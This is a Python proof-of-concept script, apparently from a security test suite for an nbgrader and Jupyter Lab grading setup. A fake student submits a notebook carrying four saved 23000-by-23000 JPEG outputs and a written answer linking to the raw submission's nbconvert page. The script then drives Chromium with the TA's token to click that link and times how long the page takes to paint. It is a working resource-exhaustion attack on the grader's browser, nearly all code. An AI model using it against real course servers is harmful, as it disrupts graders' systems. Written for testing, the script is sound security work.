"""a09: a03's absolute link, to what the course never caps: the raw hand-in in submitted/ keeps the outputs mallory
SAVED in it (the grader re-executes and replaces them only in the graded copy). Her extra cell carries 4 saved
outputs of plain 23000 x 23000 JPEGs; her written answer links to /nbconvert/html/submitted/<her notebook> on the TA's
server. Chromium, with the TA's token, follows the link as a click would and paints the page."""
import os, sys, base64
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from lib import *
from pctjpeg import real_jpeg
A = "ps1_memory"; PORT = 8944; N = 4
URL = f"http://localhost:{PORT}/nbconvert/html/submitted/{MALLORY}/{A}/{A}.ipynb?download=false"
m = honest(A)
w = [c for c in m.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "written_ddp_fit"][0]
w.source = f"DDP keeps a full replica per rank. Figures: [my plots]({URL})\n"
c = nbformat.v4.new_code_cell("print('plots')")
c.outputs = [nbformat.v4.new_output("display_data", data={"image/jpeg": base64.b64encode(real_jpeg(23000, 23000, k)).decode(), "text/plain": "fig"}) for k in range(N)]
m.cells.insert(len(m.cells) - 1, c)
d = make_course("a09")
hand_in(d, AARON, A, honest(A)); hand_in(d, MALLORY, A, m); hand_in(d, ZOE, A, honest(A))
grade(d, A); scores(d)
print("link in graded notebook:", URL in open(f"{d}/autograded/{MALLORY}/{A}/{A}.ipynb").read().replace("\\/", "/"))
env = dict(ENV, DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1", HOME="/tmp/attack42-user-a09-home", PATH=CLONE + "/.venv/bin:" + ENV["PATH"])
os.makedirs(env["HOME"], exist_ok=True); chown(env["HOME"])
srv = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "lab",
                        "--no-browser", f"--port={PORT}", "--ServerApp.token=tatoken", "--notebook-dir=."], cwd=d, env=env,
                       stdout=open("/tmp/attack42-user-a09-server.log", "w"), stderr=subprocess.STDOUT)
time.sleep(12)
from playwright.sync_api import sync_playwright
try:
    with sync_playwright() as pw:
        b = pw.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        pg = b.new_page(); pg.goto(f"http://localhost:{PORT}/lab?token=tatoken", wait_until="load", timeout=120000)  # the TA's session
        import sqlite3
        ids = dict(sqlite3.connect(f"{d}/gradebook.db").execute("""select student.id, submitted_notebook.id from submitted_notebook
           join submitted_assignment on submitted_notebook.assignment_id=submitted_assignment.id join student on submitted_assignment.student_id=student.id"""))
        for s in (AARON, MALLORY):
            t = time.time()
            if s == MALLORY:  # what the TA does: mallory's page in Formgrader, then a click on the link in her answer
                pg.goto(f"http://localhost:{PORT}/formgrader/submissions/{ids[s]}/", timeout=300000, wait_until="load")
                with pg.expect_navigation(timeout=300000):
                    pg.click('a[href*="nbconvert"]')
            else:  # aaron's raw hand-in, the same route, as from the same page (a Referer of the TA's server)
                pg.goto(URL.replace(MALLORY, s), referer=f"http://localhost:{PORT}/formgrader/", timeout=300000, wait_until="load")
            print("  url", pg.url[:120], "html chars", len(pg.content()), repr(pg.inner_text("body")[:100]), "images", pg.evaluate("document.images.length"))
            sizes = pg.evaluate("Array.from(document.images).map(i => [i.naturalWidth, i.naturalHeight]).filter(x => x[0] > 1000)")
            print(f"{s}: /nbconvert/html page loaded {time.time()-t:.1f}s; large images {sizes}", flush=True)
            t3 = time.time(); pg.screenshot(path=f"/tmp/attack42-user-a09.png", full_page=True, timeout=600000)
            print(f"  full page painted in {time.time()-t3:.1f}s", flush=True)
        b.close()
finally:
    srv.terminate(); srv.wait()
    shutil.rmtree(d); shutil.rmtree(env["HOME"])
